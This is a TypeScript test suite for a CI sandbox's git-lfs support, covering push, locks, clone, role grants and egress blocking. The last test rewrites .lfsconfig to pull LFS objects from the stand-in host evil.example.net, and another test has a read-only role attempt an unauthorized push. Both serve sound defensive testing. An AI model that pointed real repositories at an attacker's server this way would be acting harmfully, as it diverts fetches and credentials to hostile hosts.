import assert from 'node:assert/strict'
import { execFileSync, spawn } from 'node:child_process'
import { createHash } from 'node:crypto'
import { mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync } from 'node:fs'
import { request as httpRequest, type IncomingMessage, type ServerResponse } from 'node:http'
import { createServer } from 'node:https'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { makeCertificate } from '../../../demo/peers/git-server.ts'
import { setStage, type Stage } from '../../../demo/stage.ts'
import { extendPolicy, findProgram, suite, toolsFor } from '../suite.ts'

interface World extends AsyncDisposable {
  readonly stage: Stage
  readonly seen: { call: string; authorization: string | undefined }[]
}

const host = 'lfs.example.com'
const authorization = `Basic ${Buffer.from('user:pass').toString('base64')}`

/** The test server of git-lfs itself, behind TLS under another name. Its batch names the addresses of its objects by that name. */
async function open(): Promise<World> {
  await using started = new AsyncDisposableStack()
  const folder = mkdtempSync(join(tmpdir(), 'mayfly-lfs-'))
  started.defer(() => rmSync(folder, { recursive: true, force: true }))
  mkdirSync(join(folder, 'repositories'))
  const bare = join(folder, 'repositories/big.git')
  execFileSync('git', ['init', '-q', '--bare', '-b', 'main', bare])
  execFileSync('git', ['-C', bare, 'config', 'http.receivepack', 'true'])
  const behind = await startTestServer(folder)
  started.defer(behind.stop)
  const seen: World['seen'] = []
  const { ca, cert, key } = await makeCertificate(host)
  const server = createServer({ cert, key }, (request, response) => {
    seen.push({ call: `${request.method} ${request.url}`, authorization: request.headers.authorization })
    // Its Git half asks nobody who they are.
    if (request.headers.authorization !== authorization) response.writeHead(401).end()
    else passOn(behind.url, request, response)
  })
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
  started.defer(() => {
    server.closeAllConnections()
    server.close()
  })
  const dial = `127.0.0.1:${(server.address() as AddressInfo).port}`
  const stage = await setStage({
    policy: (text) =>
      extendPolicy(text, {
        connections: {
          lfs: { kind: 'git', url: `https://${host}`, dial, ca, credential: { basic: 'secret:lfs' } },
        },
        grants: {
          build: ['git:read lfs/big'],
          release: ['git:read lfs/big', 'git:push lfs/big@refs/heads/*'],
        },
      }),
  })
  started.use(stage)
  await stage.operate(['secret', 'set', 'lfs'], 'user:pass')
  const running = started.move()
  return { stage, seen, [Symbol.asyncDispose]: () => running.disposeAsync() }
}

async function startTestServer(folder: string): Promise<{ url: string; stop: () => void }> {
  const file = join(folder, 'url')
  const child = spawn(findProgram('lfstest-gitserver') ?? '', [], {
    cwd: folder,
    env: { PATH: process.env['PATH'], LFSTEST_DIR: join(folder, 'repositories'), LFSTEST_URL: file },
    stdio: 'ignore',
  })
  child.on('error', () => undefined)
  for (let tries = 0; tries < 200; tries++) {
    const url = readdirSync(folder).includes('url') ? readFileSync(file, 'utf8') : ''
    if (url.startsWith('http://')) return { url, stop: () => void child.kill() }
    await new Promise((next) => setTimeout(next, 50))
  }
  child.kill()
  throw new Error('lfstest-gitserver does not start')
}

function passOn(url: string, request: IncomingMessage, response: ServerResponse): void {
  const { method, headers } = request
  const outgoing = httpRequest(`${url}${request.url}`, { method, headers }, (answer) => {
    const isBatch = request.url?.endsWith('/objects/batch') === true
    const { 'content-length': length, ...rest } = answer.headers
    response.writeHead(answer.statusCode ?? 502, isBatch || length === undefined ? rest : answer.headers)
    if (!isBatch) return void answer.pipe(response)
    let text = ''
    answer.setEncoding('utf8').on('data', (piece: string) => (text += piece))
    answer.on('end', () => response.end(text.replaceAll(url, `https://${host}`)))
  })
  outgoing.on('error', () => response.destroy())
  request.pipe(outgoing)
}

async function inStep(
  { stage }: World,
  role: string,
  script: string,
): Promise<{ out: string; exitCode: number }> {
  for (const name of readdirSync(stage.workspace))
    rmSync(join(stage.workspace, name), { recursive: true, force: true })
  const job = stage.jobEnvironment()
  // git looks for git-lfs on the PATH.
  const { exitCode, stdout, stderr } = await stage.runJob(
    ['run', '--role', role, ...toolsFor(['git-lfs']), '--', 'bash', '-c', script],
    { ...job, PATH: `${job['PATH']}:${dirname(findProgram('git-lfs') ?? '')}` },
  )
  return { exitCode, out: `${stdout}${stderr}` }
}

const commit = 'git -c user.name=ci -c user.email=ci@example.com commit -q'

export default suite<World>({
  name: 'git-lfs',
  needs: ['git', 'lfstest-gitserver'],
  slow: true,
  open,
  rows: [
    {
      name: 'push',
      needs: ['git-lfs'],
      async run(world) {
        const pushed = await inStep(
          world,
          'release',
          `set -e; git lfs install --skip-repo
          git clone -q https://${host}/big.git work; cd work; git checkout -q -b main
          git lfs track '*.bin'; head -c 3000000 /dev/zero | tr '\\0' x > large.bin; echo second > small.bin
          git add .; ${commit} -m large
          GIT_TRACE=1 GIT_CURL_VERBOSE=1 git lfs push origin main; git push -q origin main`,
        )
        assert.equal(pushed.exitCode, 0, pushed.out)
        assert.doesNotMatch(pushed.out, /\/storage\/|Basic dXNlcjpwYXNz/)
        assert.equal(world.seen.filter(({ call }) => call.startsWith('PUT /storage/')).length, 2)
        assert.ok(world.seen.every((one) => one.authorization === authorization))
      },
    },
    {
      name: 'locks',
      needs: ['git-lfs'],
      async run(world) {
        const { out, exitCode } = await inStep(
          world,
          'release',
          `set -e; git lfs install --skip-repo; git clone -q https://${host}/big.git work; cd work
          git lfs lock large.bin; git lfs locks; ! git lfs unlock --force large.bin; git lfs unlock large.bin`,
        )
        assert.equal(exitCode, 0, out)
        assert.match(out, /Locked large\.bin[^]*large\.bin[^]*Unlocked large\.bin/)
        assert.match(out, /a lock is not taken from its owner by a step/)
      },
    },
    {
      name: 'clone',
      needs: ['git-lfs'],
      async run(world) {
        const cloned = await inStep(
          world,
          'build',
          `set -e; git lfs install --skip-repo; git clone -q https://${host}/big.git work; cd work; sha256sum large.bin; cat small.bin`,
        )
        assert.equal(cloned.exitCode, 0, cloned.out)
        const digest = createHash('sha256').update('x'.repeat(3_000_000)).digest('hex')
        assert.ok(cloned.out.includes(`${digest}  large.bin`), cloned.out)
        assert.match(cloned.out, /second/)
        assert.ok(world.seen.every((one) => one.authorization === authorization))
      },
    },
    {
      name: 'a role that only reads uploads nothing, and is told the grant',
      needs: ['git-lfs'],
      async run(world) {
        const before = world.seen.length
        const { out, exitCode } = await inStep(
          world,
          'build',
          `git lfs install --skip-repo; git clone -q https://${host}/big.git work; cd work
          echo evil > evil.bin; git add .; ${commit} -m evil; git lfs push origin HEAD`,
        )
        assert.notEqual(exitCode, 0, out)
        assert.match(out, /git:push lfs\/big@/)
        assert.ok(!world.seen.slice(before).some(({ call }) => /^PUT |batch.*upload/.test(call)))
      },
    },
    {
      name: 'a server that .lfsconfig names elsewhere is not reached',
      needs: ['git-lfs'],
      async run(world) {
        const { out, exitCode } = await inStep(
          world,
          'build',
          `git lfs install --skip-repo; GIT_LFS_SKIP_SMUDGE=1 git clone -q https://${host}/big.git work; cd work
          git config -f .lfsconfig lfs.url https://evil.example.net/big; git lfs pull`,
        )
        assert.notEqual(exitCode, 0, out)
        assert.match(out, /evil\.example\.net:443[^]*egress/)
      },
    },
  ],
})
